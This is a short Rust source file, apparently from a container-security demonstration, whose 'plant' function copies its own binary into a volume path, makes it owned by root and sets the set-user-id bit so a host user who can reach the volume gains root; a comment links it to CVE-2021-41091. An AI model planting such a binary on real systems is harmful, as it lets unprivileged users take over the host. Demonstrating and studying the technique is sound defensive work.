//! A set-user-id file in a volume: made inside, run outside (CVE-2021-41091 is a relative).

use std::fs;
use std::os::unix::fs::{PermissionsExt, chown};

use crate::told;

// ANCHOR: attack
/// Root in the container is root on the disk that it writes to. A program that belongs to root and has the
/// set-user-id bit makes whoever runs it root: also a user of the host who can reach the volume's folder.
pub fn plant(words: &[String]) -> Result<String, String> {
    let file = words.first().ok_or("FILE is needed")?;
    told("copy ourselves", fs::copy("/proc/self/exe", file))?;
    told("chown", chown(file, Some(0), Some(0)))?;
    told("chmod", fs::set_permissions(file, fs::Permissions::from_mode(0o4755)))?;
    Ok(format!("{file} makes whoever runs it root"))
}
// ANCHOR_END: attack
